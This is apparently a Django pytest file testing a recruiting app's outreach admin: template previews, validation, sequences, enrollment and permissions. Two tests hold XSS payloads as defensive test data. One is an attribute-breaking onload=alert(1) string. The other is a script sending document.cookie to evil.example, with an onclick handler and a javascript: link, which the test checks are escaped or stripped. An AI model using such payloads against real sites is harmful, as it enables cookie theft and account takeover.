"""Outreach in the admin: a template's preview, refusals at save, the enroll action."""

from __future__ import annotations

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse

from recruiting.outreach.models import Enrollment, MessageTemplate, Sequence
from tests.factories import ApplicationFactory, CandidateFactory, RoleFactory, prospect

pytestmark = pytest.mark.django_db

CANDIDATES = reverse("admin:candidates_candidate_changelist")
TEMPLATES_ADD = reverse("admin:outreach_messagetemplate_add")


def template_url(template: MessageTemplate) -> str:
    return reverse("admin:outreach_messagetemplate_change", args=[template.pk])


def test_the_preview_renders_the_template_for_the_chosen_candidate(recruiter_client, template):
    ada = CandidateFactory(name="Ada Lovelace", motivator_pay=5)
    grace = CandidateFactory(name="Grace Hopper", motivator_publishing=5, motivator_pay=1)
    ApplicationFactory(
        candidate=grace, role=RoleFactory(title="Interpretability Lead", city="Paris")
    )

    first = recruiter_client.get(template_url(template))
    chosen = recruiter_client.get(template_url(template), {"preview_candidate": ada.pk})

    assert first.status_code == 200
    # By default, the first candidate (by name) outreach could write to about a role.
    page = first.content.decode()
    assert '<span class="preview-subject">Ada, in ?</span>' in chosen.content.decode()
    assert '<span class="preview-subject">Grace, Interpretability Lead in Paris?</span>' in page
    assert (
        '<pre class="template-preview-text">Hi Grace,\n\nYou publish what you find.\n\n'
        "Rita Recruiter</pre>"
    ) in page
    # The HTML is shown in a sandboxed frame, escaped into its srcdoc.
    assert 'srcdoc="&lt;p&gt;Hi Grace,&lt;/p&gt;' in page


def test_an_unknown_variable_is_refused_at_save_in_the_admin(recruiter_client):
    response = recruiter_client.post(
        TEMPLATES_ADD,
        {
            "name": "Typo",
            "subject": "Hi {{ candidate.frist_name }}",
            "body_text": "Hello {{ sender.nmae }}",
            "body_html": "",
            "pitch_paragraphs-TOTAL_FORMS": "0",
            "pitch_paragraphs-INITIAL_FORMS": "0",
        },
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "Unknown variable “{{ candidate.frist_name }}”" in page
    assert "Unknown variable “{{ sender.nmae }}”" in page
    assert not MessageTemplate.objects.exists()


def test_a_negative_delay_is_refused_in_the_sequence_admin(recruiter_client, template):
    response = recruiter_client.post(
        reverse("admin:outreach_sequence_add"),
        {
            "name": "Backwards",
            "active": "on",
            "steps-TOTAL_FORMS": "1",
            "steps-INITIAL_FORMS": "0",
            "steps-0-position": "1",
            "steps-0-template": str(template.pk),
            "steps-0-delay_business_days": "-2",
        },
    )

    assert response.status_code == 200
    assert "A step&#x27;s delay is 0 or more business days." in response.content.decode()


def run_enroll(client, rows, sequence):
    selected = [str(r.pk) for r in rows]
    page = client.post(CANDIDATES, {"action": "enroll_action", "_selected_action": selected})
    assert page.status_code == 200
    assert page.templates[0].name == "admin/action_form.html"
    return client.post(
        CANDIDATES,
        {
            "action": "enroll_action",
            "_selected_action": selected,
            "apply": "1",
            "sequence": str(sequence.pk),
        },
    )


def test_the_enroll_action_enrolls_the_selected_candidates(recruiter_client, recruiter, sequence):
    ada = prospect(name="Ada Lovelace")
    grace = prospect(name="Grace Hopper")

    response = run_enroll(recruiter_client, [ada, grace], sequence)

    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Enrolled 2 candidate(s) in Researchers."
    ]
    assert set(Enrollment.objects.values_list("candidate__name", "enrolled_by", "status")) == {
        ("Ada Lovelace", recruiter.pk, "active"),
        ("Grace Hopper", recruiter.pk, "active"),
    }


def test_the_enroll_action_refuses_all_on_one_bad_candidate(recruiter_client, sequence):
    ada = prospect(name="Ada Lovelace")
    grace = prospect(name="Grace Hopper", do_not_contact=True)

    response = run_enroll(recruiter_client, [ada, grace], sequence)

    assert response.status_code == 200
    page = response.content.decode()
    assert "Nobody was enrolled. Grace Hopper is marked do-not-contact." in page
    assert not Enrollment.objects.exists()


def test_recruiters_may_manage_templates_and_sequences_and_view_enrollments(recruiter):
    for codename in ("add_messagetemplate", "change_sequence", "delete_sequencestep"):
        assert recruiter.has_perm(f"outreach.{codename}")
    assert recruiter.has_perm("outreach.view_enrollment")
    assert not recruiter.has_perm("outreach.change_enrollment")


def test_a_syntax_error_is_shown_on_its_field_and_the_preview_waits(recruiter_client, template):
    CandidateFactory(name="Ada Lovelace")
    response = recruiter_client.post(
        template_url(template),
        {
            "name": template.name,
            "subject": template.subject,
            "body_text": "Hi {{ candidate.first_name }, {% if %}",
            "body_html": "",
            "pitch_paragraphs-TOTAL_FORMS": "0",
            "pitch_paragraphs-INITIAL_FORMS": "0",
        },
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "This template has a syntax error" in page
    # The preview shows the template as saved (the form's text would not render).
    assert '<span class="preview-subject">Ada, in ?</span>' in page
    template.refresh_from_db()
    assert template.body_text.startswith("Hi {{ candidate.first_name }},")


def test_an_html_body_is_escaped_into_the_preview_frame_and_runs_nothing(
    recruiter_client, template
):
    CandidateFactory(name="Ada Lovelace")
    template.body_html = (
        '" onload="alert(1)" x="<p style="color:#c00">Hi {{ candidate.first_name }}</p>'
    )
    template.save()

    page = recruiter_client.get(template_url(template)).content.decode()

    frame = page[page.index("<iframe") : page.index("</iframe>")]
    assert 'onload="' not in frame  # the quote cannot end the attribute
    assert (
        'srcdoc="&quot; onload=&quot;alert(1)&quot; x=&quot;&lt;p style=&quot;color:#c00&quot;&gt;'
        in frame
    )
    assert "Hi Ada&lt;/p&gt;" in frame


def test_a_sequence_that_enrolled_anyone_cannot_be_deleted(recruiter_client, sequence, recruiter):
    from recruiting.outreach.services import enroll
    from tests.factories import prospect

    enroll(prospect(name="Ada Lovelace"), sequence, by=recruiter)
    url = reverse("admin:outreach_sequence_delete", args=[sequence.pk])

    change_page = recruiter_client.get(
        reverse("admin:outreach_sequence_change", args=[sequence.pk])
    ).content.decode()
    refused = recruiter_client.post(url, {"post": "yes"})

    assert f'href="/admin/outreach/sequence/{sequence.pk}/delete/"' not in change_page
    assert "cannot be deleted" in change_page  # and says why, and what to do instead
    assert refused.status_code == 403
    assert Sequence.objects.filter(pk=sequence.pk).exists()
    assert Enrollment.objects.filter(sequence=sequence).exists()


def swap_first_two_steps(client, sequence):
    """Posts the sequence's change form with its steps 1 and 2 renumbered 2 and 1."""
    first, second = sequence.steps.order_by("position")
    data = {"name": sequence.name, "active": "on", "steps-TOTAL_FORMS": "2"}
    data["steps-INITIAL_FORMS"] = "2"
    for i, (step, position) in enumerate(((first, 2), (second, 1))):
        data |= {
            f"steps-{i}-id": str(step.pk),
            f"steps-{i}-sequence": str(sequence.pk),
            f"steps-{i}-position": str(position),
            f"steps-{i}-template": str(step.template_id),
            f"steps-{i}-delay_business_days": str(step.delay_business_days),
        }
    return client.post(reverse("admin:outreach_sequence_change", args=[sequence.pk]), data)


def test_steps_cannot_be_renumbered_under_someone_part_way(
    recruiter_client, recruiter, sequence, template
):
    from recruiting.outreach.services import enroll
    from tests.factories import prospect

    enrollment = enroll(prospect(name="Ada Lovelace"), sequence, by=recruiter)
    Enrollment.objects.filter(pk=enrollment.pk).update(next_position=2)  # step 1 went out
    first, second = sequence.steps.order_by("position")
    response = swap_first_two_steps(recruiter_client, sequence)

    assert response.status_code == 200
    assert "Steps cannot be renumbered while 1 candidate(s) are part-way" in (
        response.content.decode()
    )
    first.refresh_from_db()
    assert first.position == 1


def test_two_steps_swap_places_in_the_sequence_admin(recruiter_client, sequence, template):
    first, second = sequence.steps.order_by("position")
    response = swap_first_two_steps(recruiter_client, sequence)

    assert response.status_code == 302
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.position, second.position) == (2, 1)


def test_steps_swapped_change_which_email_of_a_finished_enrollment_ranks_last(
    recruiter_client, recruiter, sequence, template
):
    """Ada replied after steps 1 and 2: her last email is step 2's, which her reply counts
    against. Swapped, step 2's email is now position 1's, and step 1's the last."""
    from datetime import timedelta

    from django.utils import timezone

    from recruiting.outreach.models import SentMessage
    from recruiting.outreach.services import enroll, note_last_emails
    from tests.factories import prospect

    enrollment = enroll(prospect(name="Ada Lovelace"), sequence, by=recruiter)
    first, second = sequence.steps.order_by("position")
    now = timezone.now()
    for step, days_ago in ((first, 5), (second, 2)):
        SentMessage.objects.create(
            enrollment=enrollment,
            step=step,
            status=SentMessage.Status.SENT,
            claimed_at=now - timedelta(days=days_ago),
            sent_at=now - timedelta(days=days_ago),
        )
    Enrollment.objects.filter(pk=enrollment.pk).update(status=Enrollment.Status.REPLIED)
    note_last_emails([enrollment.pk])
    enrollment.refresh_from_db()
    assert enrollment.last_email_step == second

    assert swap_first_two_steps(recruiter_client, sequence).status_code == 302

    enrollment.refresh_from_db()
    assert (enrollment.last_email_step, enrollment.last_email_at) == (
        first,
        now - timedelta(days=5),
    )


def test_only_who_may_run_outreach_may_mark_a_reply_in_the_admin(client, recruiter, sequence):
    from django.contrib.auth.models import Permission

    from recruiting.outreach.services import enroll
    from tests.factories import UserFactory, prospect

    enrollment = enroll(prospect(name="Ada Lovelace"), sequence, by=recruiter)
    viewer = UserFactory(username="viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_enrollment"))
    client.force_login(viewer)

    page = client.get(reverse("admin:outreach_enrollment_changelist")).content.decode()
    client.post(
        reverse("admin:outreach_enrollment_changelist"),
        {"action": "mark_replied_action", "_selected_action": [enrollment.pk]},
    )

    assert "mark_replied_action" not in page
    enrollment.refresh_from_db()
    assert enrollment.status == Enrollment.Status.ACTIVE


def test_a_script_typed_into_the_html_body_is_removed_at_save_and_named(recruiter_client):
    response = recruiter_client.post(
        TEMPLATES_ADD,
        {
            "name": "Hostile",
            "subject": "Hi {{ candidate.first_name }}",
            "body_text": "Hello {{ candidate.first_name }}",
            "body_html": (
                '<p onclick="steal()">Hello {{ candidate.first_name }},</p>'
                "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                '<a href="javascript:alert(1)">our lab</a> <a href="https://closer.example">site</a>'
            ),
            "pitch_paragraphs-TOTAL_FORMS": "0",
            "pitch_paragraphs-INITIAL_FORMS": "0",
        },
        follow=True,
    )

    page = response.content.decode()
    assert (
        "Removed from the HTML body, which an email must not carry: &lt;script&gt;, "
        "href on &lt;a&gt;, onclick on &lt;p&gt;." in page
    )
    saved = MessageTemplate.objects.get(name="Hostile").body_html
    assert "<script" not in saved and "onclick" not in saved and "javascript:" not in saved
    assert "Hello {{ candidate.first_name }}," in saved  # the variables stay
    assert 'href="https://closer.example"' in saved


def test_a_clean_html_body_is_saved_without_a_word(recruiter_client):
    html = "<p>Hello {{ candidate.first_name }},</p><ul><li><strong>Research</strong></li></ul>"
    response = recruiter_client.post(
        TEMPLATES_ADD,
        {
            "name": "Clean",
            "subject": "Hi",
            "body_text": "Hello",
            "body_html": html,
            "pitch_paragraphs-TOTAL_FORMS": "0",
            "pitch_paragraphs-INITIAL_FORMS": "0",
        },
        follow=True,
    )

    assert "Removed from the HTML body" not in response.content.decode()
    assert MessageTemplate.objects.get(name="Clean").body_html == html
